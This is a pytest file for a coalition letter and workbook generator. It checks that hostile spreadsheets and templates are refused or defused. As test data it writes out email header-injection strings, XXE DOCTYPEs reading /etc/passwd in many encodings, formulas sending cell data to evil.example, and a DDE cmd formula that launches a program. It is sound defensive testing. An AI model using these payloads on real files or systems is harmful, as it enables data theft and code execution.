"""What hostile cells and parts cannot do to what coalition writes: drafts, copies, names, files.

Each case builds the hostile file here, runs the command a convener would, and checks the one
sentence (or the finding), the exit code, the work done (counted) and that nothing else was
written.
"""

from __future__ import annotations

import email
import os
import subprocess
import unicodedata
import zipfile
from email import policy
from pathlib import Path

import pytest
from click.testing import CliRunner
from hostile_files import in_part, rewrite, set_cell, sheet_part
from openpyxl import load_workbook

from generator.cli import main
from generator.common.errors import TemplateError, UnsafeWorkbookError
from generator.excel.reader import check_workbook, read_workbook
from generator.worksheet import INSTRUCTIONS_SHEET, PART2, PART4, PART5
from generator.worksheet.limits import LIMITS

TEMPLATE = Path(__file__).parent.parent / "templates" / "letter.docx"
INJECTION = "=?utf-8?q?Forest_City=0D=0ABcc=3A_someone=40example.org?="


def files_in(folder: Path) -> set[Path]:
    return set(folder.rglob("*"))


# --- 1. Encoded words in cells never become headers ---------------------------------------------


def test_an_encoded_word_in_the_community_or_an_email_cell_adds_no_header(
    sample_workbook: Path, tmp_path: Path
):
    """The issue's workbook: the community, a member's name and one email cell written as
    encoded words hiding "\\r\\nBcc: someone@example.org". check flags the address; the letters
    go out; no draft carries a Bcc, and the row whose address failed gets no draft but a note."""
    workbook = load_workbook(sample_workbook)
    invites = workbook[PART5.sheet]
    for cell, text in (
        (workbook[INSTRUCTIONS_SHEET]["B4"], INJECTION),
        (invites["G4"], INJECTION),  # Denise Okafor's email
        (invites["A5"], "=?utf-8?b?SGFyb2xkDQpCY2M6IHNvbWVvbmVAZXhhbXBsZS5vcmc=?="),  # a member
    ):
        cell.value, cell.data_type = text, "s"  # typed as text, as a spreadsheet keeps "=..."
    workbook.save(sample_workbook)

    checked = CliRunner().invoke(main, ["check", str(sample_workbook)])
    out = tmp_path / "letters"
    result = CliRunner().invoke(
        main, ["letters", str(sample_workbook), "-o", str(out), "--eml", "--allow-errors"]
    )

    assert checked.exit_code == 1
    [bad] = [f for f in check_workbook(sample_workbook).findings if f.code == "bad-email"]
    assert bad.cell == "G4" and "holds MIME-encoded text" in bad.message
    assert result.exit_code == 0, result.output
    drafts = sorted(out.glob("*.eml"))
    assert len(drafts) == 7  # 8 with an address, less the one refused
    assert not (out / "Forest City Asset Builders - Denise Okafor.eml").exists()
    assert "row 4 (Denise Okafor): \u201c" in result.output and "so no draft email" in result.output
    for draft in drafts:
        head = draft.read_bytes().split(b"\r\n\r\n", 1)[0]
        assert b"\nBcc" not in head and b"\r\nBcc" not in head
        message = email.message_from_bytes(draft.read_bytes(), policy=policy.default)
        assert message.get_all("Bcc") is None
        assert INJECTION in message["Subject"]  # the community's name, as typed


# --- 4. Values longer than a cell can hold -------------------------------------------------------


@pytest.mark.parametrize(
    ("sheet", "cell"),
    [(PART4.sheet, "B4"), (PART2.sheet, "A4"), (INSTRUCTIONS_SHEET, "B4"), (PART5.sheet, "H5")],
)
def test_a_value_longer_than_a_cell_is_named_by_every_command_never_cut(
    sample_workbook: Path, tmp_path: Path, sheet: str, cell: str
):
    length = LIMITS.max_cell_text + 7_233
    path = set_cell(sample_workbook, tmp_path / "long.xlsx", sheet, cell, "L" * length)
    sentence = (
        f"Error: {path}: {sheet}!{cell} holds {length:,} characters, more than the 32,767 a "
        "spreadsheet cell can hold, so {consequence}; shorten it and try again."
    )
    out = tmp_path / "out"
    before = files_in(tmp_path)

    def run(*args: str) -> tuple[int, str]:
        result = CliRunner().invoke(main, [str(a) for a in args])
        assert "Internal error" not in result.output and "Traceback" not in result.output
        return result.exit_code, result.output

    checked = check_workbook(path)
    merged = run("merge", path, sample_workbook, "-o", out / "merged.xlsx")
    upgraded = run("upgrade", path, "-o", out / "new.xlsx")
    report = run("report", path, "-o", out, "--allow-errors")
    letters = run("letters", path, "-o", out, "--allow-errors")
    stopped = run("report", path, "-o", out)

    [finding] = [f for f in checked.findings if f.code == "too-long"]
    assert (finding.sheet, finding.cell, finding.is_error) == (sheet, cell, True)
    assert f"{length:,} characters long" in finding.message
    assert merged == (
        2,
        sentence.format(consequence="the merged workbook could not hold it") + "\n",
    )
    assert upgraded == (
        2,
        sentence.format(consequence="the upgraded workbook could not hold it") + "\n",
    )
    assert report == (2, sentence.format(consequence="no briefing was written") + "\n")
    assert letters[0] == 2
    assert letters[1].endswith(sentence.format(consequence="no letters were written") + "\n")
    assert stopped[0] == 1 and f"{sheet}!{cell}" in stopped[1]
    assert files_in(tmp_path) == before


def test_columns_of_ones_own_that_would_overflow_the_notes_stop_the_merge_naming_the_cell(
    sample_workbook: Path, tmp_path: Path
):
    """Each value fits a cell, but the merged workbook gathers a person's own columns into
    Notes, one "Heading: value" line each: 3 x 12,000 characters would be cut to 32,767."""
    workbook = load_workbook(sample_workbook)
    sheet = workbook[PART2.sheet]
    for offset, column in enumerate((60, 61, 62)):
        sheet.cell(3, column, f"Own {offset}")
        sheet.cell(4, column, str(offset) * 12_000)
    workbook.save(sample_workbook)
    output = tmp_path / "merged.xlsx"
    before = files_in(tmp_path)

    result = CliRunner().invoke(main, ["merge", str(sample_workbook), "-o", str(output)])

    assert result.exit_code == 2, result.output
    assert result.output.splitlines()[-1].startswith(
        f"Error: {output}: cannot be written: its Part 2 Existing!"
    )
    assert "would hold 36,0" in result.output and "more than the 32,767" in result.output
    assert files_in(tmp_path) == before


# --- 5. A DOCTYPE in any encoding ---------------------------------------------------------------

XXE = '<!DOCTYPE cp [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
CORE = (
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
    'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&x;</dc:title>'
    "</cp:coreProperties>"
)
ENCODINGS = {
    "utf-32-le-bom": b"\xff\xfe\x00\x00"
    + ('<?xml version="1.0" encoding="UTF-32"?>' + XXE + CORE).encode("utf-32-le"),
    "utf-32-be-bom": b"\x00\x00\xfe\xff"
    + ('<?xml version="1.0" encoding="UTF-32"?>' + XXE + CORE).encode("utf-32-be"),
    "utf-32-le": ('<?xml version="1.0" encoding="UTF-32LE"?>' + XXE + CORE).encode("utf-32-le"),
    "utf-32-be": ('<?xml version="1.0" encoding="UTF-32BE"?>' + XXE + CORE).encode("utf-32-be"),
    "utf-32-no-declaration": (XXE + CORE).encode("utf-32-le"),
    "utf-16-no-bom": ('<?xml version="1.0" encoding="UTF-16BE"?>' + XXE + CORE).encode("utf-16-be"),
    "utf-7": b'<?xml version="1.0" encoding="UTF-7"?>'
    + b'+ADw-!DOCTYPE cp +AFs-+ADw-!ENTITY x "y"+AD4-+AF0-+AD4-'
    + CORE.encode(),
    "ebcdic": ('<?xml version="1.0" encoding="IBM037"?>' + XXE + CORE).encode("cp037"),
    "lower-case": ("<?xml version='1.0'?><!doctype cp [<!ENTITY x 'y'>]>" + CORE).encode(),
}


@pytest.mark.parametrize("encoding", list(ENCODINGS), ids=list(ENCODINGS))
def test_a_doctype_is_refused_in_every_encoding_a_parser_reads(
    sample_workbook: Path, tmp_path: Path, encoding: str, monkeypatch: pytest.MonkeyPatch
):
    import openpyxl
    import python_calamine

    parsed: list[object] = []  # what either parser was asked to read
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *args, **kw: parsed.append(args))
    monkeypatch.setattr(
        python_calamine.CalamineWorkbook, "from_path", lambda *args, **kw: parsed.append(args)
    )
    path = rewrite(
        sample_workbook,
        tmp_path / "core.xlsx",
        lambda name, data: ENCODINGS[encoding] if name == "docProps/core.xml" else data,
    )

    with pytest.raises(UnsafeWorkbookError) as raised:
        read_workbook(path)

    assert str(raised.value).startswith(f"{path}: part docProps/core.xml declares a DOCTYPE")
    assert str(raised.value).endswith("; it was refused unread.")
    assert parsed == []


def test_an_encoding_this_tool_cannot_decode_is_refused_not_waved_through(
    sample_workbook: Path, tmp_path: Path
):
    path = rewrite(
        sample_workbook,
        tmp_path / "odd.xlsx",
        lambda name, data: (
            b'<?xml version="1.0" encoding="x-unheard-of"?>' + CORE.replace("&x;", "").encode()
            if name == "docProps/core.xml"
            else data
        ),
    )

    with pytest.raises(UnsafeWorkbookError, match="names the encoding 'x-unheard-of'"):
        read_workbook(path)


def test_workbooks_in_utf_32_without_a_doctype_are_still_read(sample_workbook: Path, tmp_path):
    """Every part in UTF-32 (with its byte-order mark): unusual, legal, and read."""

    def utf32(name: str, data: bytes) -> bytes:
        if not name.endswith((".xml", ".rels")) or not data.startswith(b"<?xml"):
            return data
        body = data.split(b"?>", 1)[1].decode("utf-8")
        return b"\xff\xfe\x00\x00" + ('<?xml version="1.0" encoding="UTF-32"?>' + body).encode(
            "utf-32-le"
        )

    path = rewrite(sample_workbook, tmp_path / "utf32.xlsx", utf32)

    assert len(check_workbook(path).plan.invitees) == 14


@pytest.mark.parametrize("encoding", ["utf-32-le-bom", "utf-16-no-bom", "utf-7"])
def test_a_template_with_a_doctype_in_any_encoding_is_refused(tmp_path: Path, encoding: str):
    from generator.letters.templates import check_template

    template = rewrite(
        TEMPLATE,
        tmp_path / "letter.docx",
        lambda name, data: ENCODINGS[encoding] if name == "docProps/core.xml" else data,
    )

    with pytest.raises(TemplateError) as raised:
        check_template(template)

    assert str(raised.value) == (
        f"{template}: part docProps/core.xml declares a DOCTYPE (XML entities)"
        + str(raised.value).split("(XML entities)", 1)[1]
    )
    assert str(raised.value).endswith("which a genuine part never does; it was refused unread.")


# --- 6. The annotated copy runs nothing of the sender's -----------------------------------------


def with_formulas(sample: Path, target: Path) -> Path:
    """A HYPERLINK that leaks a name, a DDE call, a web service, a name that is a formula and a
    validation that calls a program: each as a sender would leave them, with cached values."""
    part = sheet_part(sample, PART5.sheet)

    def edit(xml: str) -> str:
        cells = (
            '<c r="X4" t="str"><f>HYPERLINK("http://evil.example/?n="&amp;A4,"Notes")</f>'
            "<v>Notes</v></c>"
            "<c r=\"Y4\"><f>cmd|' /C calc'!A0</f><v>0</v></c>"
            '<c r="Z4" t="str"><f>WEBSERVICE("http://evil.example/")</f><v>=1+1</v></c>'
        )
        xml = xml.replace('<row r="4"', '<row r="4"', 1)
        head, rest = xml.split('<row r="4"', 1)
        row_open, row_rest = rest.split(">", 1)
        row_body, after = row_rest.split("</row>", 1)
        xml = f'{head}<row r="4"{row_open}>{row_body}{cells}</row>{after}'
        validation = (
            '<dataValidation type="list" sqref="W4"><formula1>cmd|\'/C calc\'!A0</formula1>'
            "</dataValidation>"
        )
        return xml.replace("</dataValidations>", validation + "</dataValidations>").replace(
            '<dataValidations count="10"', '<dataValidations count="11"'
        )

    rewrite(sample, target, in_part(part, edit))
    return rewrite(
        target,
        target.with_name("named.xlsx"),
        in_part(
            "xl/workbook.xml",
            lambda xml: xml.replace(
                "</definedNames>",
                '<definedName name="Leak">HYPERLINK("http://evil.example/")</definedName>'
                "</definedNames>",
            ),
        ),
    )


def test_the_annotated_copy_keeps_values_not_the_senders_formulas(
    sample_workbook: Path, tmp_path: Path
):
    path = with_formulas(sample_workbook, tmp_path / "formulas.xlsx")
    original = path.read_bytes()
    annotated = tmp_path / "annotated.xlsx"

    result = CliRunner().invoke(main, ["check", str(path), "--annotate", str(annotated)])

    assert result.exit_code == 0, result.output
    assert "3 formulas of the sender's replaced by their values" in result.output
    copy = load_workbook(annotated)
    sheet = copy[PART5.sheet]
    assert [(sheet[c].value, sheet[c].data_type) for c in ("X4", "Y4", "Z4")] == [
        ("Notes", "s"),
        (0, "n"),
        ("=1+1", "s"),  # a text that looks like a formula stays text
    ]
    assert "HYPERLINK" in sheet["X4"].comment.text and "cmd|" in sheet["Y4"].comment.text
    formulas = [
        (ws.title, cell.coordinate)
        for ws in copy.worksheets
        for cell in ws._cells.values()
        if cell.data_type == "f"
    ]
    assert formulas and {title for title, _ in formulas} == {"_coalition"}  # the partner list
    assert "Leak" not in copy.defined_names
    assert not any("cmd|" in (v.formula1 or "") for v in sheet.data_validations.dataValidation)
    assert copy["Findings"]["A2"].value.startswith("3 formulas of the sender's")
    assert path.read_bytes() == original


def test_keep_formulas_keeps_them(sample_workbook: Path, tmp_path: Path):
    path = with_formulas(sample_workbook, tmp_path / "formulas.xlsx")
    annotated = tmp_path / "annotated.xlsx"

    result = CliRunner().invoke(
        main, ["check", str(path), "--annotate", str(annotated), "--keep-formulas"]
    )

    assert result.exit_code == 0
    sheet = load_workbook(annotated)[PART5.sheet]
    assert sheet["Y4"].value == "=cmd|' /C calc'!A0" and sheet["Y4"].comment is None


def test_keep_formulas_without_annotate_is_a_usage_error(sample_workbook: Path):
    result = CliRunner().invoke(main, ["check", str(sample_workbook), "--keep-formulas"])

    assert result.exit_code == 2
    assert "--keep-formulas is about the --annotate copy" in result.output


# --- 7. Letter file names are visible and stable -------------------------------------------------

PERSIAN = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Acme\u061c Inc - Ana", "Acme Inc - Ana"),  # Arabic letter mark
        ("Park\u3164Place", "Park Place"),  # Hangul filler
        ("\u115f\u1160\uffa0", "Letter row 4"),  # nothing visible at all
        ("Ac\u200bme\u2060 Trust", "Acme Trust"),  # zero widths and word joiners
        ("\u202egpj.exe - Ana", "gpj.exe - Ana"),  # right-to-left override
        ("Kin\u200dd Works", "Kind Works"),  # a joiner hiding inside Latin text
        ("Ana\U000e0041\U000e0042", "Ana"),  # tag characters outside a flag
        ("Folder\u2215Name", "Folder-Name"),  # a slash look-alike
        ("C\ua789 Drive", "C- Drive"),  # a colon look-alike
        ("Team \U0001f469\u200d\U0001f4bb", "Team \U0001f469\u200d\U0001f4bb"),  # woman coder
        ("\U0001f3f3\ufe0f\u200d\U0001f308 Pride", "\U0001f3f3\ufe0f\u200d\U0001f308 Pride"),
        (
            "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Club",
            "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Club",
        ),
        (
            "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
            "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        ),
    ],
)
def test_letter_names_hold_nothing_invisible_and_keep_emoji_whole(raw: str, expected: str):
    from generator.letters.naming import unique_stems

    assert unique_stems([(4, raw)]) == {4: expected}
    name = unique_stems([(4, raw)])[4]
    assert not [c for c in name if unicodedata.category(c) in ("Cc", "Cs", "Co", "Cn")]


def test_a_name_typed_composed_or_decomposed_is_the_same_file():
    from generator.letters.naming import unique_stems

    composed = unicodedata.normalize("NFC", "Caf\u00e9 Uni\u00f3n - Jos\u00e9")
    decomposed = unicodedata.normalize("NFD", composed)

    assert unique_stems([(4, composed)]) == unique_stems([(4, decomposed)])


# --- 8. Temporary files: beside the output, and cleaned up ---------------------------------------


def test_merge_and_upgrade_leave_nothing_in_the_temporary_folder(
    sample_workbook: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    import tempfile

    system_temp = tmp_path / "system-temp"
    system_temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))
    out = tmp_path / "out"

    merged = CliRunner().invoke(
        main, ["merge", str(sample_workbook), str(sample_workbook), "-o", str(out / "m.xlsx")]
    )
    upgraded = CliRunner().invoke(
        main, ["upgrade", str(sample_workbook), "-o", str(out / "u.xlsx")]
    )

    assert merged.exit_code == 0 and upgraded.exit_code == 0
    assert list(system_temp.iterdir()) == []
    assert sorted(p.name for p in out.iterdir()) == ["m.xlsx", "u.xlsx"]


def test_a_merge_that_fails_at_its_last_step_leaves_no_file(
    sample_workbook: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    import generator.merging.merge

    monkeypatch.setattr(generator.merging.merge, "unaccounted", lambda *args: ["an answer"])
    out = tmp_path / "out"

    with pytest.raises(RuntimeError):
        CliRunner().invoke(
            main,
            ["merge", str(sample_workbook), "-o", str(out / "m.xlsx")],
            catch_exceptions=False,
            env={"COALITION_DEBUG": "1"},
        )

    assert list(out.iterdir()) == []


def test_what_a_killed_run_left_beside_its_output_is_removed_by_the_next(
    sample_workbook: Path, tmp_path: Path
):
    """A run killed outright (SIGKILL, a power cut) cannot clean up; the next run that writes
    into the folder removes what a dead process of this tool left, and nothing else."""
    dead = subprocess.Popen(["true"])
    dead.wait()
    out = tmp_path / "out"
    out.mkdir()
    leftover = out / f".m.xlsx.{dead.pid}-k3j2x9.tmp.xlsx"
    leftover.write_bytes(b"half a workbook")
    alive = out / f".m.xlsx.{os.getpid()}-a1b2c3.tmp.xlsx"
    alive.write_bytes(b"someone else's")
    mine = out / ".hidden-notes.tmp"
    mine.write_text("a user's own file")

    result = CliRunner().invoke(main, ["merge", str(sample_workbook), "-o", str(out / "m.xlsx")])

    assert result.exit_code == 0
    assert sorted(p.name for p in out.iterdir()) == sorted(["m.xlsx", alive.name, mine.name])


def test_libreoffice_scratch_folders_of_dead_runs_are_swept(tmp_path: Path, monkeypatch):
    import tempfile

    from generator.common.fileio import scratch_folder
    from generator.word.pdf import SCRATCH_PREFIX

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    dead = subprocess.Popen(["true"])
    dead.wait()
    (tmp_path / f"{SCRATCH_PREFIX}{dead.pid}-abc" / "profile").mkdir(parents=True)
    (tmp_path / "coalition-lo-old-style").mkdir()

    with scratch_folder(SCRATCH_PREFIX) as folder:
        assert folder.name.startswith(f"{SCRATCH_PREFIX}{os.getpid()}-")
        inside = sorted(p.name for p in tmp_path.iterdir())

    assert inside == sorted([folder.name, "coalition-lo-old-style"])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["coalition-lo-old-style"]


def test_zip_file_read_back_is_a_workbook(sample_workbook: Path, tmp_path: Path):
    """The merged workbook is read back beside the output under a name ending in .xlsx, which
    openpyxl insists on; the result is an ordinary workbook."""
    out = tmp_path / "m.xlsx"
    CliRunner().invoke(main, ["merge", str(sample_workbook), "-o", str(out)])

    with zipfile.ZipFile(out) as package:
        assert "xl/workbook.xml" in package.namelist()


# --- Bounded work on files from someone else ---------------------------------------------------


def test_the_annotated_copy_marks_a_bounded_number_of_findings_and_says_so(
    sample_workbook: Path, tmp_path: Path
):
    """87,000 cells of "maybe" in a mark matrix once made a copy of 87,000 comments: a minute and
    a gigabyte. The copy marks the first findings and says how many more check lists."""
    from generator.excel.annotate import MAX_FINDINGS

    workbook = load_workbook(sample_workbook)
    sheet = workbook[PART2.sheet]
    for row in range(40, 40 + MAX_FINDINGS // 40 + 10):
        sheet.cell(row, 1, f"Partner {row}")
        sheet.cell(row, 2, "Nonprofit")
        for column in range(3, 43):
            sheet.cell(row, column, "maybe")
    workbook.save(sample_workbook)
    annotated = tmp_path / "annotated.xlsx"

    result = CliRunner().invoke(main, ["check", str(sample_workbook), "--annotate", annotated])

    assert result.exit_code == 1  # "maybe" is not a mark: an error in every cell
    total = len(check_workbook(sample_workbook).findings)
    assert total > MAX_FINDINGS
    copy = load_workbook(annotated)
    comments = sum(
        1
        for ws in copy.worksheets
        for cell in ws._cells.values()
        if cell.comment is not None and cell.comment.author == "coalition check"
    )
    assert comments <= MAX_FINDINGS
    assert copy["Findings"].max_row == 3 + MAX_FINDINGS
    assert copy["Findings"]["A2"].value == (
        f"The first {MAX_FINDINGS:,} of {total:,} findings are shown here and marked in the "
        "sheets; coalition check (or its --format json) lists them all."
    )


def test_a_control_character_in_a_cell_never_reaches_the_terminal(
    sample_workbook: Path, tmp_path: Path
):
    """U+009B opens an escape sequence in some terminals: a cell could clear the screen or
    rewrite the findings shown above it."""
    path = set_cell(
        sample_workbook, tmp_path / "c1.xlsx", PART2.sheet, "B4", "Non\u009b2J\u009b1Aprofit\u007f!"
    )

    result = CliRunner().invoke(main, ["check", str(path)])

    assert result.exit_code == 1
    assert "\u201cNon2J1Aprofit!\u201d is not in the list" in " ".join(result.output.split())
    assert not any("\u007f" <= c <= "\u009f" or c == "\x1b" for c in result.output)


def test_a_template_of_more_tags_than_any_letter_needs_is_refused_before_compiling(tmp_path: Path):
    """200,000 fields in a 45 KB template once took 80 s and 2.5 GB to compile, before one
    letter was written."""
    from docx import Document

    from generator.letters.templates import check_template
    from generator.word.template_fields import MAX_TAGS

    document = Document()
    for _ in range(MAX_TAGS // 100 + 1):
        document.add_paragraph("{{ member }} " * 100)
    template = tmp_path / "many.docx"
    document.save(template)

    with pytest.raises(TemplateError) as raised:
        check_template(template)

    assert str(raised.value) == (
        f"{template}: has more than {MAX_TAGS:,} template tags ({{{{ }}}}, {{% %}}), far more "
        "than a letter or a briefing needs; it was refused before compiling them."
    )
